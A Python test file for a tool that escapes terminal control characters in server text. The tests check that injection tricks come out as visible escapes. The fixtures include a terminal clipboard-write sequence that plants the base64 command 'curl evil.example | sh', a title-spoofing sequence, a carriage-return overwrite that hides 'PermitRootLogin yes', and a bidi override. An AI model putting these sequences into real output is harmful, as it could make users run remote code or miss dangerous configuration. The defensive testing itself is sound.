"""Server text shown with its control characters made visible (wizard/visible.py)."""

from __future__ import annotations

import io
import sys

import pytest

from wizard.visible import HIDDEN_RANGES, VisibleWriter, escape, is_plain, visible, visible_output

OSC_TITLE = "\x1b]0;you have been pwned\x07"
OSC_CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
CSI_CLEAR = "\x1b[2J\x1b[H"


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        (OSC_TITLE, "\\x1b]0;you have been pwned\\x07"),
        (OSC_CLIPBOARD, "\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07"),
        (CSI_CLEAR, "\\x1b[2J\\x1b[H"),
        # A bare CR would send the cursor back and let the rest overwrite the line.
        (
            "PermitRootLogin yes\r# PermitRootLogin no",
            "PermitRootLogin yes\\x0d# PermitRootLogin no",
        ),
        # 0x9b is CSI in one byte for a terminal that takes C1 controls.
        ("\x9b31mred", "\\x9b31mred"),
        # An override makes "allow" read backwards; the reader sees the override instead.
        ("\u202ewolla\u202c", "\\u202ewolla\\u202c"),
        ("a\u2066b\u2069c\u2028d\u2029e", "a\\u2066b\\u2069c\\u2028d\\u2029e"),
        ("\x00\x08\x0b\x0c\x7f\x85", "\\x00\\x08\\x0b\\x0c\\x7f\\x85"),
        ("\udc9b", "\\udc9b"),
    ],
)
def test_control_characters_are_shown_as_escapes(raw, shown):
    assert visible(raw) == shown
    assert "\x1b" not in visible(raw) and "\x07" not in visible(raw)
    assert not is_plain(raw)


def test_layout_and_ordinary_text_are_kept():
    text = "server {\n\tlisten 443 ssl; # café, 日本, ☃, \\x1b as typed\n}\n"
    assert visible(text) == text
    assert is_plain(text)


def test_every_hidden_code_point_becomes_printable_ascii():
    for first, last in HIDDEN_RANGES:
        for code in range(first, last + 1):
            shown = visible(chr(code))
            assert shown == escape(code)
            assert shown.isascii() and shown.isprintable(), hex(code)


def test_the_writer_makes_everything_written_visible_and_keeps_the_length():
    target = io.StringIO()
    writer = VisibleWriter(target)
    assert writer.write(f"title {OSC_TITLE}\n") == len(f"title {OSC_TITLE}\n")
    print("clip", OSC_CLIPBOARD, file=writer, flush=True)
    assert target.getvalue() == (
        "title \\x1b]0;you have been pwned\\x07\n"
        "clip \\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\n"
    )


def test_visible_output_covers_stdout_and_stderr_and_then_restores_them(capsys):
    before = sys.stdout, sys.stderr
    with visible_output():
        print(OSC_TITLE)
        print(CSI_CLEAR, file=sys.stderr)
    assert (sys.stdout, sys.stderr) == before
    print("\x1b[1mafter")
    captured = capsys.readouterr()
    assert captured.out == "\\x1b]0;you have been pwned\\x07\n\x1b[1mafter\n"
    assert captured.err == "\\x1b[2J\\x1b[H\n"
